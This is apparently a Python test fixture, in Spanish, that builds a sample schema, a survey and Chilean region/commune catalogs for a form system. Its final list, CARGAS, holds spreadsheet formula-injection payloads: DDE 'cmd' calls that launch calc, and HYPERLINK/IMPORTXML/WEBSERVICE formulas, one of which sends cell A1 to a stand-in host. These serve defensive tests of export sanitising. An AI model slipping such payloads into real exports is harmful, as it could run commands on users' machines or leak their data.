"""Un esquema y unos catálogos hechos a mano, para probar sin depender de los YAML."""

from esquemas.modelo import Campo, Condicion, Esquema, Grupo, Opcion, Opciones, Referencia, Tabla


def campo(nombre: str, titulo: str, tipo: str = "texto", ejemplo: str = "", **mas) -> Campo:
    return Campo(nombre, titulo, tipo, f"Qué es {titulo}.", ejemplo, ("reglamento:3",), "publico", **mas)


CAMPOS = (
    campo("codigo", "Código", "codigo", "06", obligatorio=True),
    campo("instrumento", "Instrumento", ejemplo="crece", catalogo="instrumentos", obligatorio=True, ayuda="Elija uno."),
    campo("criterios", "Criterios", ejemplo="territorial;sectorial", catalogo="criterios", varios=True),
    campo("comuna", "Comuna", ejemplo="06101", catalogo="comunas", mostrar_si=Condicion("es", "criterios", ("territorial",))),
    campo("focaliza", "¿Focaliza?", "logico", "si"),
    campo("presupuesto", "Presupuesto", "pesos", "61230000"),
    campo("avance", "Avance", "porcentaje", "12.5"),
    campo("fecha", "Fecha", "fecha", "2026-12-31"),
    campo("ejercicio", "Ejercicio", "ejercicio", "2027"),
    campo("objetivos", "Objetivos", referencia=Referencia("objetivos"), varios=True),
    campo("descripcion", "Descripción", "parrafo", "Una línea\ny otra"),
    campo("respuesta", "Respuesta", "codigo", "R-1", automatico=True),
)
PRINCIPAL = Tabla("focal", "Focalización", CAMPOS, ("codigo",))
FILA = {c.nombre: c.ejemplo for c in CAMPOS if not c.automatico}
FORMATO = Esquema(
    "focal", "Focalización", "formato", "Para probar.", "1.2.0", ("reglamento:6",), PRINCIPAL, {}, "ab" * 32, ejemplos=(FILA,)
)

CLAVE = campo("respuesta", "Respuesta", "codigo", "R-1", automatico=True, obligatorio=True)
GRUPO = Grupo(
    Tabla("representantes", "Representantes", (CLAVE, campo("nombre", "Nombre", ejemplo="Una persona"))), "representante"
)
_PREGUNTAS = (
    CLAVE,
    campo("tipo", "Tipo", ejemplo="crece", catalogo="instrumentos"),
    campo("medios", "Medios", obligatorio=True, mostrar_si=Condicion("vacio", "tipo", vacio=False)),
    campo(
        "otro",
        "Otro",
        mostrar_si=Condicion(
            "o",
            partes=(
                Condicion("no_es", "tipo", ("crece",)),
                Condicion("vacio", "medios"),
                Condicion("en", "tipo", ("redes", "crece")),
            ),
        ),
    ),
)
ENCUESTA = Esquema(
    "actores",
    "Actores",
    "encuesta",
    "Para probar.",
    "0.1.0",
    ("guia:A.8",),
    Tabla("actores", "Actores", _PREGUNTAS, ("respuesta",)),
    {},
    "cd" * 32,
    grupos=(GRUPO,),
    ejemplos=({"respuesta": "R-1", "tipo": "crece"},),
)


def catalogo(nombre: str, padre: str, *opciones: Opcion) -> Opciones:
    return Opciones(nombre, nombre.capitalize(), "Para probar.", "1.0.0", opciones, padre=padre)


OPCIONES = {
    "instrumentos": catalogo("instrumentos", "", Opcion("crece", "Crece"), Opcion("redes", "Redes")),
    "criterios": catalogo("criterios", "", Opcion("territorial", "Territorial"), Opcion("sectorial", "Sectorial")),
    "regiones": catalogo("regiones", "", Opcion("05", "Valparaíso"), Opcion("06", "O'Higgins")),
    "provincias": catalogo(
        "provincias", "regiones", Opcion("051", "Valparaíso", padre="05"), Opcion("061", "Cachapoal", padre="06")
    ),
    "comunas": catalogo(
        "comunas",
        "provincias",
        Opcion("05101", "Valparaíso", padre="051"),
        Opcion("06101", "Rancagua", padre="061"),
        Opcion("otra", "Otra"),
    ),
}
# Lo que una planilla ejecutaría, una por cada manera conocida de esconderlo.
CARGAS = (
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://ejemplo.cl?"&A1,"vea")',
    '=IMPORTXML("http://ejemplo.cl","//a")',
    '=WEBSERVICE("http://ejemplo.cl")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '";=1+1;"',
    "＝1+1",
)
